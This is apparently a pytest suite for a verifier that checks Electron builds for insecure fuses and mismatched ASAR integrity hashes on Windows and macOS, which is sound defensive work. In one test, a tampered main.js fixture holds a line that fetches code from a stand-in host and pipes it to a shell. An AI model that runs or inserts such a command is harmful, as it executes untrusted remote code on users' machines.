"""Electron checks: insecure fuses, and ASAR integrity declared on Windows and macOS."""

from __future__ import annotations

import json
import plistlib
import struct
from pathlib import Path

import pytest

from verifier import api
from verifier._scenarios.pewriter import build_pe, electron_exe
from verifier._scenarios.scenario import write_asar
from verifier.binary import pe
from verifier.binary.pe_resources import find_resource, list_resources
from verifier.checks.electron import asar_header_sha256, fuse_states, insecure_fuses
from verifier.errors import MalformedInputError
from verifier.model import Blob, FileEntry, FuseWire, Report

APP = {"package.json": b'{"name":"app","main":"main.js"}', "main.js": b"console.log(1)\n"}


def header_hash(asar: Path) -> str:
    e = FileEntry("a", "a", (), asar.stat().st_size, "", blob=Blob.of_file(asar))
    return asar_header_sha256(e)


def verify(artifact: Path, upstream: Path) -> Report:
    return api.verify(api.VerifyRequest(str(artifact), (f"path:{upstream}",)))


def rules_at(report: Report, rule: str) -> list[str]:
    return [f.path for f in report.findings if f.rule == rule]


def test_fuse_states_and_insecure_ones() -> None:
    wire = FuseWire(0, 1, "1101rr10")
    states = fuse_states(wire)
    assert states["RunAsNode"] == "on"
    assert states["EnableNodeOptionsEnvironmentVariable"] == "off"
    assert states["EnableEmbeddedAsarIntegrityValidation"] == "removed"
    # a removed fuse is not "off"; RunAsNode and --inspect on are insecure
    assert insecure_fuses(wire) == ["RunAsNode", "EnableNodeCliInspectArguments"]
    assert insecure_fuses(FuseWire(0, 1, "01001100")) == []
    assert insecure_fuses(FuseWire(0, 1, "01000100")) == ["EnableEmbeddedAsarIntegrityValidation"]


def _app(tmp_path: Path, name: str, exe: bytes, asar_files: dict[str, bytes]) -> Path:
    root = tmp_path / name
    (root / "resources").mkdir(parents=True)
    (root / "Acme.exe").write_bytes(exe)
    write_asar(root / "resources" / "app.asar", asar_files)
    return root


def test_insecure_fuses_of_the_shipped_main_executable_are_low(tmp_path: Path) -> None:
    up = tmp_path / "up"
    up.mkdir()
    (up / "electron.exe").write_bytes(build_pe(electron_exe("30.0.0", fuses="1101rr10")))
    art = _app(tmp_path, "art", build_pe(electron_exe("30.0.0", fuses="1101rr10")), APP)
    report = verify(art, up)
    (f,) = [f for f in report.findings if f.rule == "insecure-fuse"]
    assert f.path == "Acme.exe"
    assert f.severity.value == "low"
    assert f.evidence["insecure"] == ["RunAsNode", "EnableNodeCliInspectArguments"]
    assert report.verdict.value == "pass"


def _integrity_exe(asar_hash: str) -> bytes:
    decl = json.dumps([{"file": "resources\\app.asar", "alg": "sha256", "value": asar_hash}])
    spec = electron_exe("30.0.0", fuses="01001100")
    from dataclasses import replace

    return build_pe(replace(spec, named_resources=(("INTEGRITY", "ELECTRONASAR", decl.encode()),)))


def test_windows_asar_integrity_resource_is_read(tmp_path: Path) -> None:
    data = _integrity_exe("ab" * 32)
    f = tmp_path / "x.exe"
    f.write_bytes(data)
    blob = Blob.of_file(f)
    info = pe.read_pe_info(blob)
    kinds = {(r.type, r.name) for r in list_resources(blob, info)}
    assert ("INTEGRITY", "ELECTRONASAR") in kinds
    assert (16, 1) in kinds  # the version resource is still there
    assert json.loads(find_resource(blob, info, "integrity", "electronasar") or b"")[0]["alg"]


def test_windows_asar_integrity_match_and_tampered_header(tmp_path: Path) -> None:
    up = tmp_path / "up"
    up.mkdir()
    (up / "electron.exe").write_bytes(build_pe(electron_exe("30.0.0", fuses="01001100")))
    probe = tmp_path / "probe.asar"
    write_asar(probe, APP)
    good = _app(tmp_path, "good", _integrity_exe(header_hash(probe)), APP)
    assert rules_at(verify(good, up), "asar-integrity-mismatch") == []
    evil = {**APP, "main.js": b"require('child_process').exec('curl evil|sh')\n"}
    bad = _app(tmp_path, "bad", _integrity_exe(header_hash(probe)), evil)
    report = verify(bad, up)
    assert rules_at(report, "asar-integrity-mismatch") == ["resources/app.asar"]
    (f,) = [f for f in report.findings if f.rule == "asar-integrity-mismatch"]
    assert f.severity.value == "high"
    assert f.evidence["declared_in"] == "Acme.exe"
    assert report.verdict.value == "fail"


def test_macos_info_plist_asar_integrity(tmp_path: Path) -> None:
    up = tmp_path / "up" / "Electron.app" / "Contents"
    up.mkdir(parents=True)
    (up / "PkgInfo").write_bytes(b"APPL????")
    art = tmp_path / "art" / "Acme.app" / "Contents"
    (art / "Resources").mkdir(parents=True)
    (art / "PkgInfo").write_bytes(b"APPL????")
    write_asar(art / "Resources" / "app.asar", APP)
    plist = {
        "CFBundleExecutable": "Acme",
        "ElectronAsarIntegrity": {
            "Resources/app.asar": {"algorithm": "SHA256", "hash": "00" * 32},
        },
    }
    (art / "Info.plist").write_bytes(plistlib.dumps(plist))
    report = verify(tmp_path / "art", tmp_path / "up")
    assert rules_at(report, "asar-integrity-mismatch") == ["Acme.app/Contents/Resources/app.asar"]
    plist["ElectronAsarIntegrity"]["Resources/app.asar"]["hash"] = header_hash(  # type: ignore[index]
        art / "Resources" / "app.asar"
    )
    (art / "Info.plist").write_bytes(plistlib.dumps(plist))
    assert rules_at(verify(tmp_path / "art", tmp_path / "up"), "asar-integrity-mismatch") == []


@pytest.mark.parametrize(
    "corrupt",
    ["resource-count", "resource-loop", "garbage-json"],
)
def test_hostile_integrity_declarations_are_findings_not_crashes(
    tmp_path: Path, corrupt: str
) -> None:
    data = bytearray(_integrity_exe("ab" * 32))
    f = tmp_path / "x.exe"
    f.write_bytes(data)
    info = pe.read_pe_info(Blob.of_file(f))
    rva, _ = info.data_dir(pe.DIR_RESOURCE)
    root = info.rva_to_offset(rva)
    if corrupt == "resource-count":
        struct.pack_into("<HH", data, root + 12, 0xFFFF, 0xFFFF)
    elif corrupt == "resource-loop":
        # the first type entry points back at the root directory
        struct.pack_into("<I", data, root + 20, 0x80000000)
    else:
        marker = data.find(b'[{"file"')
        data[marker : marker + 8] = b"{{{{{{{{"
    up = tmp_path / "up"
    up.mkdir()
    (up / "electron.exe").write_bytes(build_pe(electron_exe("30.0.0", fuses="01001100")))
    art = _app(tmp_path, "art", bytes(data), APP)
    report = verify(art, up)
    hits = [f for f in report.findings if f.rule == "asar-integrity-mismatch"]
    assert hits and hits[0].path == "Acme.exe"
    assert "cannot read the declared ASAR integrity" in hits[0].message


def test_truncated_asar_header_is_an_error() -> None:
    import tempfile

    with tempfile.NamedTemporaryFile() as t:
        t.write(struct.pack("<IIIi", 4, 8, 4, 1 << 30))
        t.flush()
        e = FileEntry("a", "a", (), 16, "", blob=Blob.of_file(t.name))
        with pytest.raises(MalformedInputError):
            asar_header_sha256(e)
